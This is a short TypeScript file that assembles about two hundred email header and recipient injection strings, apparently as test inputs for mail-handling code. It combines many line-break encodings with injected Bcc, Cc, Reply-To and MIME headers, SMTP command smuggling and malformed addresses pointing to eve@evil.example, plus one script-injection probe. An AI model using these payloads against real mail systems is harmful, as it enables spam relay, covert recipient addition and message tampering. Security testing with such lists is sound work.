const BREAKS = [
  '\r\n',
  '\n',
  '\r',
  '%0d%0a',
  '%0A',
  '\\r\\n',
  '\u2028',
  '\u0085',
  '\0\r\n',
  '\r\n\t',
  '\v',
  '\f',
  '=0D=0A',
]
const HEADERS = [
  'Bcc: eve@evil.example',
  'Cc: eve@evil.example',
  'To: eve@evil.example',
  'Reply-To: eve@evil.example',
  'From: eve@evil.example',
  'Subject: Buy now',
  'Content-Type: text/html\r\n\r\n<h1>Buy</h1>',
  'X-Evil: yes',
  'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x',
  '\r\n\r\nAnother body',
  '.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<eve@evil.example>\r\nDATA',
]
const ADDRESSES = [
  'ana@example.com,eve@evil.example',
  'ana@example.com;eve@evil.example',
  'ana@example.com eve@evil.example',
  '<eve@evil.example>',
  '"ana@example.com" <eve@evil.example>',
  'Group: eve@evil.example, ana@example.com;',
  'ana@example.com>,<eve@evil.example',
  'eve@evil.example(ana@example.com)',
  '=?utf-8?Q?Bcc:_eve@evil.example?=',
  '=?utf-8?B?QmNjOiBldmVAZXZpbC5leGFtcGxl?=',
  '"eve@evil.example,"@example.com',
  'ana@example.com\u0000@evil.example',
  '> RCPT TO:<eve@evil.example',
  'ana@[127.0.0.1]',
  '<script>alert(1)</script>',
]

/** Two hundred known ways to inject a header or a recipient into an email. */
export const headerInjections: string[] = [
  ...ADDRESSES,
  ...BREAKS.flatMap((ends) => HEADERS.map((header) => `Ana${ends}${header}`)),
  ...BREAKS.flatMap((ends) => ADDRESSES.slice(0, 4).map((address) => `${ends}Bcc: ${address}${ends}`)),
].slice(0, 200)
